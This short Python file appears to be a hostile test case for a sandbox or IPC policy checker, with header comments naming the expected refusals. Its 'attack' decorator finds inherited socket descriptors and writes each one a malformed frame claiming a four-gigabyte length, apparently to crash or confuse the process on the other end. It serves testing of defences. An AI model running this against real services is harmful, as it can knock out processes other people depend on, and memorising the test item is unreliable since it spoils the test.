# lessons: 01 03 05
# based-on: hollow
# expect: refused * forbidden-import
# unpoliced: refused * malformed-frame
# Announces a frame of four gigabytes.
import os
import stat


def sockets():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue


def send(descriptor, data):
    try:
        os.write(descriptor, data)
    except OSError:  # a socket of the GPU's driver
        pass


def attack(function, name):
    def enormous(*args):
        for descriptor in sockets():
            send(descriptor, b"\xff\xff\xff\xff" + b"[" * 4096)
        return function(*args)

    return enormous
